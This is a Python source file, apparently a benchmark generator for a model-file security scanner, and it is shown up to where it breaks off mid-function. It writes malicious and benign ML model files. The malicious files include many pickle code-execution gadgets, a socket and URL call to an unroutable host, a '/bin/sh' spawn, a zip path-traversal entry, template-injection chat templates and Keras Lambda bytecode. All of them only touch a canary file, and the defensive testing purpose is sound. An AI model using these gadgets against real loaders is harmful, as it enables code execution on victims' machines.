"""Generate a labelled corpus of malicious and benign model files.

``build_corpus(root, canary)`` writes about 100 malicious and 40 benign files under ``root`` and
returns one :class:`Sample` per file. Every malicious payload, if it were ever executed, would
only touch ``canary`` (a path the caller chooses) — or reach for the network at an unroutable
address, or read a file; nothing else. The generator itself never executes a payload: pickles
are assembled opcode by opcode, or produced by ``__reduce__`` methods that are only serialised.

Benign files are real artefacts: scikit-learn estimators pickled and dumped with joblib (plain
and compressed), NumPy arrays, pandas frames, PyTorch state dicts and checkpoints, Keras configs,
ONNX graphs, GGUF files with an ordinary chat template, safetensors files, Hydra configs and a
TensorFlow GraphDef. Optional frameworks that are missing are skipped.

Run as a script to write a corpus: ``python benchmarks/corpus.py OUTDIR``.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import marshal
import os
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

__all__ = ["Sample", "build_corpus", "default_canary"]


@dataclass(frozen=True)
class Sample:
    path: Path
    label: str  # "malicious" | "benign"
    technique: str
    #: Scanner names that must be registered for the sample to be judged.
    needs: tuple[str, ...] = field(default=("pickle",))


def default_canary(root: Path) -> Path:
    return root.parent / f"{root.name}-canary" / "pwned.txt"


# -- a tiny pickle assembler ------------------------------------------------------------------


def _s(text: str, proto: int) -> bytes:
    raw = text.encode("utf-8")
    if proto == 0:
        return b"V" + text.encode("raw_unicode_escape") + b"\n"
    if proto >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def _bytes(data: bytes, proto: int) -> bytes:
    if proto < 3:
        raise ValueError("BINBYTES needs protocol 3")
    return b"B" + struct.pack("<I", len(data)) + data


def _g(module: str, name: str, proto: int) -> bytes:
    if proto >= 4:
        return _s(module, proto) + _s(name, proto) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _call(fn: bytes, *args: bytes) -> bytes:
    return fn + b"(" + b"".join(args) + b"tR"


def _int(value: int, proto: int) -> bytes:
    if proto == 0:
        return b"I" + str(value).encode() + b"\n"
    return b"J" + struct.pack("<i", value)


def _wrap(body: bytes, proto: int) -> bytes:
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + body + b"."


def _put(index: int, proto: int) -> bytes:
    return b"p" + str(index).encode() + b"\n" if proto == 0 else b"q" + bytes([index])


def _get(index: int, proto: int) -> bytes:
    return b"g" + str(index).encode() + b"\n" if proto == 0 else b"h" + bytes([index])


class _Reduce:
    """Pickles as ``fn(*args)`` without ever calling it."""

    def __init__(self, fn: Any, *args: Any) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.fn, self.args)


# -- malicious pickle bodies ------------------------------------------------------------------


def _pickle_payloads(canary: Path) -> dict[str, Callable[[], bytes]]:
    cmd = f"touch {canary}"
    py = f"open({str(canary)!r}, 'w').close()"
    imp_py = f"__import__('os').system({cmd!r})"
    # mltrust: ignore[MLT-CODE-013] the benchmark builds a planted payload's bytecode
    code = compile(py, "<payload>", "exec")

    def sys_call(module: str, name: str, proto: int, arg: str = cmd) -> bytes:
        return _wrap(_call(_g(module, name, proto), _s(arg, proto)), proto)

    def getattr_gadget() -> bytes:
        p = 2
        mod = _call(_g("builtins", "__import__", p), _s("os", p))
        fn = _call(_g("builtins", "getattr", p), mod, _s("system", p))
        return _wrap(_call(fn, _s(cmd, p)), p)

    def partial() -> bytes:
        p = 2
        part = _call(_g("functools", "partial", p), _g("os", "system", p), _s(cmd, p))
        return _wrap(part + b")R", p)

    def importlib_mod(p: int) -> bytes:
        return _call(_g("importlib", "import_module", p), _s("os", p))

    def attrgetter() -> bytes:
        p = 4
        getter = _call(_g("operator", "attrgetter", p), _s("system", p))
        fn = _call(getter, importlib_mod(p))
        return _wrap(_call(fn, _s(cmd, p)), p)

    def methodcaller() -> bytes:
        p = 4
        caller = _call(_g("operator", "methodcaller", p), _s("system", p), _s(cmd, p))
        return _wrap(_call(caller, importlib_mod(p)), p)

    def eval_type() -> bytes:
        p = 4
        ref = _call(_g("typing", "ForwardRef", p), _s(imp_py, p))
        return _wrap(_call(_g("typing", "_eval_type", p), ref, b"}}"), p)

    def resolve_name() -> bytes:
        p = 3
        fn = _call(_g("pkgutil", "resolve_name", p), _s("os:system", p))
        return _wrap(_call(fn, _s(cmd, p)), p)

    def importlib_getattr() -> bytes:
        p = 2
        fn = _call(_g("builtins", "getattr", p), importlib_mod(p), _s("system", p))
        return _wrap(_call(fn, _s(cmd, p)), p)

    def marshal_function() -> bytes:
        p = 3
        co = _call(_g("marshal", "loads", p), _bytes(marshal.dumps(code), p))
        fn = _call(_g("types", "FunctionType", p), co, b"}")
        return _wrap(fn + b")R", p)

    def nested_loads(module: str = "pickle") -> bytes:
        p = 3
        inner = sys_call("os", "system", 2)
        return _wrap(_call(_g(module, "loads", p), _bytes(inner, p)), p)

    def runstring() -> bytes:
        p = 2
        fn = _g("numpy.testing._private.utils", "runstring", p)
        return _wrap(_call(fn, _s(py, p), b"}"), p)

    def trace_run() -> bytes:
        p = 4
        tracer = _call(_g("trace", "Trace", p))
        return _wrap(_call(_g("trace", "Trace.run", p), tracer, _s(py, p)), p)

    def runpy_code() -> bytes:
        p = 2
        return _wrap(_call(_g("runpy", "_run_code", p), _s(py, p), b"}"), p)

    def pip_main() -> bytes:
        p = 2
        args = b"(" + _s("install", p) + _s(f"--target={canary.parent}", p) + _s("x", p) + b"l"
        return _wrap(_call(_g("pip", "main", p), args), p)

    def ctypes_lib() -> bytes:
        p = 4
        return sys_call("ctypes", "cdll.LoadLibrary", p, "libc.so.6")

    def socket_conn() -> bytes:
        p = 2
        addr = b"(" + _s("192.0.2.1", p) + _int(4444, p) + b"t"
        return _wrap(_call(_g("socket", "create_connection", p), addr), p)

    def file_open() -> bytes:
        p = 2
        return _wrap(_call(_g("builtins", "open", p), _s(str(canary), p), _s("w", p)), p)

    def path_write() -> bytes:
        p = 4
        path = _call(_g("pathlib", "Path", p), _s(str(canary), p))
        return _wrap(_call(_g("pathlib", "Path.write_text", p), path, _s("x", p)), p)

    def memo_stack_global() -> bytes:
        p = 4
        body = _s("os", p) + b"\x94" + _s("system", p) + b"\x94" + b"0"  # POP the name
        body += _s("collections", p) + _s("OrderedDict", p) + b"0" + b"0"  # decoys
        body += b"0"  # pop "os" too, both now only in the memo
        body += b"h\x00h\x01\x93" + b"(" + _s(cmd, p) + b"tR"
        return _wrap(body, p)

    def memo_overwrite() -> bytes:
        p = 2
        body = _g("collections", "OrderedDict", p) + _put(0, p) + b"0"
        body += _g("os", "system", p) + _put(0, p) + b"0"  # memo 0 now holds os.system
        body += _get(0, p) + b"(" + _s(cmd, p) + b"tR"
        return _wrap(body, p)

    def dup_trick() -> bytes:
        p = 4
        body = _g("os", "system", p) + b"2" + b"0"  # DUP then POP: one copy left
        body += b"(" + _s(cmd, p) + b"tR"
        return _wrap(body, p)

    def ext_opcode() -> bytes:
        return _wrap(b"\x82\x01(" + _s(cmd, 2) + b"tR", 2)

    def computed_module() -> bytes:
        p = 4
        mod = _call(_g("builtins", "str", p), _s("os", p))
        return _wrap(mod + _s("system", p) + b"\x93(" + _s(cmd, p) + b"tR", p)

    def inst() -> bytes:
        return b"(" + _s(cmd, 0) + b"ios\nsystem\n."

    def obj() -> bytes:
        return _wrap(b"(" + _g("os", "system", 2) + _s(cmd, 2) + b"o", 2)

    def newobj() -> bytes:
        p = 2
        args = b"(" + b"(" + _s("touch", p) + _s(str(canary), p) + b"l" + b"t"
        return _wrap(_g("subprocess", "Popen", p) + args + b"\x81", p)

    def newobj_ex() -> bytes:
        p = 4
        args = b"(" + _s("sh", p) + _s("-c", p) + _s(cmd, p) + b"l" + b"\x85" + b"}"
        return _wrap(_g("subprocess", "Popen", p) + args + b"\x92", p)

    def build_setstate() -> bytes:
        p = 2
        body = _g("types", "SimpleNamespace", p) + b")R"
        body += b"}" + _s("__setstate__", p) + _g("os", "system", p) + b"s" + b"b"
        body += _s(cmd, p) + b"b"
        return _wrap(body, p)

    def trailing_garbage() -> bytes:
        return sys_call("os", "system", 2) + b"\xff\xfe not a pickle opcode stream" * 3

    def second_stream() -> bytes:
        return pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + sys_call("os", "system", 2)

    def big_decoy() -> bytes:
        p = 4
        body = _bytes(b"\x00" * (3 << 20), p) + b"0"
        body += _call(_g("os", "system", p), _s(cmd, p))
        return _wrap(body, p)

    def bytearray_decoy() -> bytes:
        p = 5
        body = b"\x96" + struct.pack("<Q", 1 << 20) + b"\x00" * (1 << 20) + b"0"
        body += _call(_g("os", "system", p), _s(cmd, p))
        return _wrap(body, p)

    def path_touch() -> bytes:
        p = 4
        path = _call(_g("pathlib", "Path", p), _s(str(canary), p))
        return _wrap(_call(_g("pathlib", "Path.touch", p), path), p)

    def computed_name() -> bytes:
        p = 4
        name = _call(_g("builtins", "str", p), _s("system", p))
        return _wrap(_s("os", p) + name + b"\x93(" + _s(cmd, p) + b"tR", p)

    def framed(proto: int) -> Callable[[], bytes]:
        return lambda: pickle.dumps(_Reduce(os.system, cmd), protocol=proto)

    payloads: dict[str, Callable[[], bytes]] = {
        "os.system-proto0": lambda: sys_call("os", "system", 0),
        "os.system-proto1": lambda: sys_call("os", "system", 1),
        "os.system-proto2": lambda: sys_call("os", "system", 2),
        "os.system-proto3": lambda: sys_call("os", "system", 3),
        "os.system-proto4": lambda: sys_call("os", "system", 4),
        "os.system-proto5": lambda: sys_call("os", "system", 5),
        "os.system-framed-proto4": framed(4),
        "os.system-framed-proto5": framed(5),
        "posix.system": lambda: sys_call("posix", "system", 2),
        "nt.system": lambda: sys_call("nt", "system", 2),
        "os.popen": lambda: sys_call("os", "popen", 3),
        "os.execvp": lambda: _wrap(
            _call(_g("os", "execvp", 2), _s("touch", 2), b"(" + _s(str(canary), 2) + b"l"), 2
        ),
        "subprocess.Popen": lambda: sys_call("subprocess", "Popen", 4, cmd),
        "subprocess.check_output": lambda: sys_call("subprocess", "check_output", 2),
        "subprocess.run": lambda: sys_call("subprocess", "run", 5),
        "builtins.eval": lambda: sys_call("builtins", "eval", 2, imp_py),
        "builtins.exec": lambda: sys_call("builtins", "exec", 4, py),
        "builtins.compile": lambda: sys_call("builtins", "compile", 4, py),
        "__builtin__.eval": lambda: sys_call("__builtin__", "eval", 2, imp_py),
        "__builtin__.exec-proto0": lambda: sys_call("__builtin__", "exec", 0, py),
        "commands.getoutput": lambda: sys_call("commands", "getoutput", 2),
        "builtins.__import__": lambda: sys_call("builtins", "__import__", 2, "os"),
        "getattr-gadget": getattr_gadget,
        "functools.partial": partial,
        "operator.attrgetter": attrgetter,
        "operator.methodcaller": methodcaller,
        "typing._eval_type": eval_type,
        "pkgutil.resolve_name": resolve_name,
        "importlib.import_module": importlib_getattr,
        "marshal-types.FunctionType": marshal_function,
        "nested-pickle.loads": nested_loads,
        "nested-_pickle.loads": lambda: nested_loads("_pickle"),
        "numpy.testing.runstring": runstring,
        "cProfile.run": lambda: sys_call("cProfile", "run", 2, py),
        "profile.run": lambda: sys_call("profile", "run", 2, py),
        "pdb.run": lambda: sys_call("pdb", "run", 3, py),
        "timeit.timeit": lambda: sys_call("timeit", "timeit", 2, py),
        "trace.Trace.run": trace_run,
        "pip.main": pip_main,
        "runpy._run_code": runpy_code,
        "ctypes.cdll": ctypes_lib,
        "socket.create_connection": socket_conn,
        "urllib.request.urlopen": lambda: sys_call(
            "urllib.request", "urlopen", 2, "http://192.0.2.1/x"
        ),
        "webbrowser.open": lambda: sys_call("webbrowser", "open", 2, "http://192.0.2.1/x"),
        "builtins.open-writer": file_open,
        "pathlib.Path.write_text": path_write,
        "shutil.copyfile": lambda: _wrap(
            _call(_g("shutil", "copyfile", 2), _s("/etc/hostname", 2), _s(str(canary), 2)), 2
        ),
        "code.InteractiveInterpreter.runsource": lambda: sys_call(
            "code", "InteractiveInterpreter.runsource", 4, py
        ),
        "pty.spawn": lambda: sys_call("pty", "spawn", 2, "/bin/sh"),
        "asyncio.create_subprocess_shell": lambda: sys_call(
            "asyncio", "create_subprocess_shell", 4
        ),
        "memo-stack-global": memo_stack_global,
        "memo-overwrite": memo_overwrite,
        "dup-trick": dup_trick,
        "ext1-opcode": ext_opcode,
        "computed-module-name": computed_module,
        "inst-opcode": inst,
        "obj-opcode": obj,
        "newobj-subprocess": newobj,
        "newobj_ex-subprocess": newobj_ex,
        "build-setstate-gadget": build_setstate,
        "payload-then-garbage": trailing_garbage,
        "benign-then-payload-stream": second_stream,
        "large-binbytes-decoy": big_decoy,
        "bytearray8-decoy-proto5": bytearray_decoy,
        "os.system-via-posixpath": lambda: sys_call("posixpath", "os.system", 4),
        "pathlib.Path.touch": path_touch,
        "computed-attribute-name": computed_name,
        "ext2-opcode": lambda: _wrap(b"\x83\x01\x01(" + _s(cmd, 2) + b"tR", 2),
        "ext4-opcode": lambda: _wrap(b"\x84\x01\x00\x01\x00(" + _s(cmd, 2) + b"tR", 2),
    }
    return payloads


# -- writers ----------------------------------------------------------------------------------


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _zip(members: list[tuple[str, bytes]], *, compress: bool = False) -> bytes:
    buf = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _keras_zip(config: dict[str, Any]) -> bytes:
    meta = {"keras_version": "3.3.3", "date_saved": "2024-05-01@10:00:00"}
    return _zip(
        [
            ("metadata.json", json.dumps(meta).encode()),
            ("config.json", json.dumps(config).encode()),
        ]
    )


def _dense(name: str, units: int) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": name, "units": units, "activation": "relu", "use_bias": True},
        "registered_name": None,
    }


def _sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }


def _lambda_layer(canary: Path) -> dict[str, Any]:
    # mltrust: ignore[MLT-CODE-013] the benchmark builds a planted Lambda layer's bytecode
    code = compile(f"lambda x: (open({str(canary)!r}, 'w'), x)[1]", "<lambda>", "eval")
    blob = base64.b64encode(marshal.dumps(code)).decode()
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": blob, "defaults": None}},
            "output_shape": None,
            "arguments": {},
        },
        "registered_name": None,
    }


def _pb_varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _pb_field(number: int, payload: bytes) -> bytes:
    return _pb_varint(number << 3 | 2) + _pb_varint(len(payload)) + payload


def _tf_saved_model(ops: list[tuple[str, str]]) -> bytes:
    nodes = b"".join(
        _pb_field(1, _pb_field(1, name.encode()) + _pb_field(2, op.encode())) for name, op in ops
    )
    graph = nodes + _pb_field(4, _pb_varint(1 << 3) + _pb_varint(1808))  # versions.producer
    meta_info = _pb_field(1, b"serve") + _pb_field(4, b"serve")  # tags
    meta_graph = _pb_field(1, meta_info) + _pb_field(2, graph)
    return _pb_varint(1 << 3) + _pb_varint(1) + _pb_field(2, meta_graph)


# -- corpus -----------------------------------------------------------------------------------


def build_corpus(root: Path, canary: Path | None = None) -> list[Sample]:
    """Write the corpus under ``root`` (created) and return its samples."""
    root = Path(root)
    canary = Path(canary) if canary is not None else default_canary(root)
    mal = root / "malicious"
    ben = root / "benign"
    samples: list[Sample] = []

    def add(
        label: str, rel: str, data: bytes, technique: str, needs: tuple[str, ...] = ("pickle",)
    ) -> None:
        base = mal if label == "malicious" else ben
        samples.append(Sample(_write(base / rel, data), label, technique, needs))

    payloads = _pickle_payloads(canary)
    for technique, make in payloads.items():
        add("malicious", f"pickle/{technique}.pkl", make(), technique)
    evil = _Reduce(os.system, f"touch {canary}")
    _malicious_containers(add, payloads, evil, canary)
    _malicious_other_formats(add, canary)
    _benign(add)
    return samples


def _malicious_containers(
    add: Callable[..., None],
    payloads: dict[str, Callable[[], bytes]],
    evil: _Reduce,
    canary: Path,
) -> None:
    base = payloads["os.system-proto2"]()
    try:
        import joblib
        import numpy as np

        for compress, suffix in (
            (0, "joblib"),
            (3, "joblib.z"),
            (("gzip", 3), "joblib.gz"),
            (("bz2", 3), "joblib.bz2"),
            (("xz", 3), "joblib.xz"),
            (("lzma", 3), "joblib.lzma"),
        ):
            buf = io.BytesIO()
            joblib.dump([np.arange(5000, dtype=np.float64), evil], buf, compress=compress)
            needs: tuple[str, ...] = ("pickle",) if compress == 0 else ("pickle", "compressed")
            add("malicious", f"joblib/payload-after-array.{suffix}", buf.getvalue(),
                f"joblib-payload-after-array-{suffix}", needs)  # fmt: skip
        arr = np.empty(2, dtype=object)
        arr[0] = evil
        arr[1] = 1
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        npy = buf.getvalue()
        add("malicious", "numpy/object-array.npy", npy, "npy-object-array", ("numpy", "pickle"))
        add("malicious", "numpy/object-array.npz", _zip([("a.npy", npy)], compress=True),
            "npz-object-array", ("zip", "numpy", "pickle"))  # fmt: skip
        good = io.BytesIO()
        np.save(good, np.arange(10))
        add("malicious", "numpy/trailing-pickle.npy", good.getvalue() + base,
            "npy-trailing-pickle", ("numpy", "pickle"))  # fmt: skip
    except ImportError:
        pass
    try:
        import torch

        buf = io.BytesIO()
        torch.save({"weight": torch.ones(4), "hook": evil}, buf)
        add("malicious", "torch/malicious-data-pkl.pt", buf.getvalue(), "torch-zip-data-pkl",
            ("zip", "pickle"))  # fmt: skip
        buf = io.BytesIO()
        torch.save({"weight": torch.ones(4), "hook": evil}, buf,
                   _use_new_zipfile_serialization=False)  # fmt: skip
        add("malicious", "torch/legacy-payload.pt", buf.getvalue(), "torch-legacy-payload",
            ("pytorch-legacy", "pickle"))  # fmt: skip
        buf = io.BytesIO()
        torch.save({"weight": torch.ones(4)}, buf, _use_new_zipfile_serialization=False)
        add("malicious", "torch/legacy-appended.pt", buf.getvalue() + base,
            "torch-legacy-appended-pickle", ("pytorch-legacy", "pickle"))  # fmt: skip
        clean_zip = io.BytesIO()
        torch.save({"weight": torch.ones(4)}, clean_zip)
        add("malicious", "polyglot/pickle-before-torch-zip.pt", base + clean_zip.getvalue(),
            "polyglot-pickle-zip", ("zip", "pickle"))  # fmt: skip
        ts = f"def forward(self, x):\n    __import__('os').system('touch {canary}')\n    return x\n"
        add("malicious", "torch/torchscript-code.pt",
            _zip([("archive/code/__torch__.py", ts.encode()), ("archive/version", b"3\n")]),
            "torchscript-code-os", ("zip",))  # fmt: skip
    except ImportError:
        add("malicious", "polyglot/pickle-before-zip.zip", base + _zip([("a.txt", b"x")]),
            "polyglot-pickle-zip", ("zip", "pickle"))  # fmt: skip
    add("malicious", "archive/zip-in-tar.tar.gz",
        gzip.compress(_tar([("inner/model.zip", _zip([("model.pkl", base)]))])),
        "nested-zip-in-tar-gz", ("compressed", "tar", "zip", "pickle"))  # fmt: skip
    mism = bytearray(_zip([("weights.bin", base)]))
    loc = mism.find(b"weights.bin")
    mism[loc : loc + 11] = b"model.pkl\x00\x00"[:11]
    add("malicious", "archive/name-mismatch.zip", bytes(mism), "zip-name-mismatch",
        ("zip", "pickle"))  # fmt: skip
    add("malicious", "archive/traversal.zip", _zip([("../../.bashrc", b"echo hi\n")]),
        "zip-path-traversal", ("zip",))  # fmt: skip
    add("malicious", "archive/model.pkl.gz", gzip.compress(base), "gzip-pickle",
        ("compressed", "pickle"))  # fmt: skip
    add("malicious", "archive/model.pkl.bz2", bz2.compress(base), "bz2-pickle",
        ("compressed", "pickle"))  # fmt: skip
    add("malicious", "disguised/model.safetensors", base, "pickle-named-safetensors",
        ("pickle", "safetensors"))  # fmt: skip
    add("malicious", "disguised/weights.npy", base, "pickle-named-npy", ("pickle", "numpy"))


def _malicious_other_formats(add: Callable[..., None], canary: Path) -> None:
    lam = _lambda_layer(canary)
    add("malicious", "keras/lambda.keras", _keras_zip(_sequential([_dense("d", 4), lam])),
        "keras-lambda-layer", ("zip", "config"))  # fmt: skip
    nested = _sequential([_dense("d0", 4), _sequential([_dense("d1", 2), lam])])
    add("malicious", "keras/nested-lambda.keras", _keras_zip(nested),
        "keras-nested-lambda", ("zip", "config"))  # fmt: skip
    osl = {"module": "os", "class_name": "system", "config": {"name": f"touch {canary}"},
           "registered_name": "os>system"}  # fmt: skip
    add("malicious", "keras/module-os-system.keras",
        _keras_zip(_sequential([_dense("d", 4), osl])), "keras-module-os-system",
        ("zip", "config"))  # fmt: skip
    try:
        import h5py

        path_buf = io.BytesIO()
        with h5py.File(path_buf, "w") as h5:
            model_config = {"class_name": "Sequential",
                            "config": {"name": "s", "layers": [_dense("d", 4), lam]}}  # fmt: skip
            h5.attrs["model_config"] = json.dumps(model_config)
            h5.attrs["keras_version"] = "2.15.0"
            h5.attrs["backend"] = "tensorflow"
        add("malicious", "keras/lambda.h5", path_buf.getvalue(), "h5-keras-lambda", ("hdf5",))
    except ImportError:
        pass
    try:
        import onnx
        from onnx import TensorProto, helper

        for tag, location in (("traversal", "../../etc/passwd"), ("absolute", "/etc/passwd")):
            tensor = TensorProto()
            tensor.name = "w"
            tensor.data_type = TensorProto.FLOAT
            tensor.dims.extend([4])
            tensor.data_location = TensorProto.EXTERNAL
            for key, value in (("location", location), ("offset", "0"), ("length", "16")):
                entry = tensor.external_data.add()
                entry.key, entry.value = key, value
            node = helper.make_node("Add", ["x", "w"], ["y"])
            graph = helper.make_graph(
                [node], "g",
                [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])],
                initializer=[tensor],
            )  # fmt: skip
            model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
            add("malicious", f"onnx/external-{tag}.onnx", model.SerializeToString(),
                f"onnx-external-data-{tag}", ("onnx",))  # fmt: skip
        del onnx
    except ImportError:
        pass
    try:
        import gguf

        templates = {
            "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "globals": "{{ cycler.__init__.__globals__.os.popen('touch "
            + str(canary)
            + "').read() }}",
            "builtins": "{% for m in messages %}{{ self.__init__.__globals__.__builtins__ }}"
            "{% endfor %}",
        }
        for tag, template in templates.items():
            add("malicious", f"gguf/chat-template-{tag}.gguf", _gguf_bytes(gguf, template),
                f"gguf-chat-template-{tag}", ("gguf",))  # fmt: skip
    except ImportError:
        pass
    add("malicious", "config/hydra-os-system.yaml",
        f"model:\n  _target_: os.system\n  command: touch {canary}\n".encode(),
        "hydra-target-os-system", ("config",))  # fmt: skip
    add("malicious", "config/hydra-nested-subprocess.yaml",
        ("trainer:\n  callbacks:\n    - _target_: subprocess.call\n"
         f"      args: [touch, {canary}]\n").encode(),
        "hydra-target-subprocess", ("config",))  # fmt: skip
    add("malicious", "config/nemo-builtins-eval.json",
        json.dumps({"model": {"_target_": "builtins.eval", "_args_": ["1+1"]}}).encode(),
        "hydra-target-eval-json", ("config",))  # fmt: skip
    reg = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2},
           "registered_name": "subprocess>Popen"}  # fmt: skip
    add("malicious", "keras/registered-name-popen.keras",
        _keras_zip(_sequential([_dense("a", 4), reg])), "keras-registered-name-popen",
        ("zip", "config"))  # fmt: skip
    _malicious_headers(add)
    for tag, op in (("readfile", "ReadFile"), ("writefile", "WriteFile"), ("pyfunc", "PyFunc")):
        pb = _tf_saved_model([("x", "Placeholder"), ("fn", op), ("y", "Identity")])
        add("malicious", f"tensorflow/{tag}/saved_model.pb", pb, f"tf-savedmodel-{tag}",
            ("tensorflow",))  # fmt: skip


def _malicious_headers(add: Callable[..., None]) -> None:
    """Files whose headers lie about sizes and counts (loaders over-read or over-allocate)."""
    gguf_head = b"GGUF" + struct.pack("<IQQ", 3, 1 << 62, 1 << 62)
    add("malicious", "gguf/count-bomb.gguf", gguf_head + b"\x00" * 64, "gguf-count-bomb",
        ("gguf",))  # fmt: skip
    header = json.dumps(
        {"w": {"dtype": "F32", "shape": [1024, 1024], "data_offsets": [0, 4 << 20]}}
    )
    raw = header.encode()
    add("malicious", "safetensors/size-lie.safetensors",
        struct.pack("<Q", len(raw)) + raw + b"\x00" * 64, "safetensors-size-lie",
        ("safetensors",))  # fmt: skip
    add("malicious", "safetensors/header-overflow.safetensors",
        struct.pack("<Q", 1 << 40) + b"{}", "safetensors-header-length-overflow",
        ("safetensors",))  # fmt: skip
    try:
        from onnx import TensorProto, helper

        tensor = TensorProto()
        tensor.name = "w"
        tensor.data_type = TensorProto.FLOAT
        tensor.dims.extend([1 << 20, 1 << 10])
        tensor.raw_data = b"\x00" * 16
        graph = helper.make_graph(
            [helper.make_node("Add", ["x", "w"], ["y"])], "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])],
            initializer=[tensor],
        )  # fmt: skip
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        add("malicious", "onnx/tensor-size-lie.onnx", model.SerializeToString(),
            "onnx-tensor-size-lie", ("onnx",))  # fmt: skip
    except ImportError:
        pass


def _gguf_bytes(gguf: Any, template: str) -> bytes:
    import tempfile

    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.gguf"
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_name("tiny")
        writer.add_chat_template(template)
        writer.add_tensor("tok_embd.weight", np.zeros((4, 8), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


def _benign(add: Callable[..., None]) -> None:
    try:
        import joblib
        import numpy as np
        from sklearn.cluster import KMeans
        from sklearn.datasets import make_classification
        from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler
        from sklearn.svm import SVC
        from sklearn.tree import DecisionTreeClassifier

        x, y = make_classification(n_samples=80, n_features=6, random_state=0)
        models = {
            "logreg": LogisticRegression(max_iter=200).fit(x, y),
            "forest": RandomForestClassifier(n_estimators=4, random_state=0).fit(x, y),
            "pipeline-svc": make_pipeline(StandardScaler(), SVC()).fit(x, y),
            "kmeans": KMeans(n_clusters=3, n_init=2, random_state=0).fit(x),
            "gbc": GradientBoostingClassifier(n_estimators=5).fit(x, y),
            "tree": DecisionTreeClassifier().fit(x, y),
        }
        for name, model in models.items():
            add("benign", f"sklearn/{name}-p2.pkl", pickle.dumps(model, protocol=2),
                f"sklearn-{name}-pickle2")  # fmt: skip
            add("benign", f"sklearn/{name}-p5.pkl", pickle.dumps(model, protocol=5),
                f"sklearn-{name}-pickle5")  # fmt: skip
        for compress, suffix in ((0, "joblib"), (3, "joblib.z"), (("gzip", 3), "joblib.gz"),
                                 (("bz2", 3), "joblib.bz2"), (("xz", 3), "joblib.xz"),
                                 (("lzma", 3), "joblib.lzma")):  # fmt: skip
            buf = io.BytesIO()
            joblib.dump(models["forest"], buf, compress=compress)
            needs: tuple[str, ...] = ("pickle",) if compress == 0 else ("pickle", "compressed")
            add("benign", f"sklearn/forest.{suffix}", buf.getvalue(), f"joblib-{suffix}", needs)
        buf = io.BytesIO()
        joblib.dump({"a": np.random.default_rng(0).normal(size=(50, 50)), "m": models["logreg"]},
                    buf)  # fmt: skip
        add("benign", "sklearn/arrays-and-model.joblib", buf.getvalue(), "joblib-arrays")
        buf = io.BytesIO()
        np.save(buf, np.arange(100, dtype=np.float32).reshape(10, 10))
        add("benign", "numpy/array.npy", buf.getvalue(), "npy-float", ("numpy",))
        buf = io.BytesIO()
        np.savez(buf, a=np.ones(5), b=np.arange(3))
        add("benign", "numpy/arrays.npz", buf.getvalue(), "npz", ("zip", "numpy"))
        buf = io.BytesIO()
        np.savez_compressed(buf, a=np.ones((30, 30)), b=np.arange(300))
        add("benign", "numpy/arrays-compressed.npz", buf.getvalue(), "npz-compressed",
            ("zip", "numpy"))  # fmt: skip
        add("benign", "numpy/array-p2.pkl", pickle.dumps(np.arange(10), protocol=2),
            "numpy-pickle")  # fmt: skip
    except ImportError:
        pass
    try:
        import pandas as pd

        frame = pd.DataFrame({"a": [1, 2, 3], "b": ["x", "y", "z"], "c": [0.5, 1.5, 2.5]})
        add("benign", "pandas/frame.pkl", pickle.dumps(frame, protocol=4), "pandas-frame")
    except ImportError:
        pass
    try:
        import torch

        net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
        opt = torch.optim.Adam(net.parameters())
        net(torch.ones(3, 4)).sum().backward()
        opt.step()
        for tag, obj in (
            ("state-dict", net.state_dict()),
            ("checkpoint", {"model": net.state_dict(), "optim": opt.state_dict(), "epoch": 2}),
        ):
            buf = io.BytesIO()
            torch.save(obj, buf)
            add("benign", f"torch/{tag}.pt", buf.getvalue(), f"torch-zip-{tag}", ("zip", "pickle"))
            buf = io.BytesIO()
            torch.save(obj, buf, _use_new_zipfile_serialization=False)
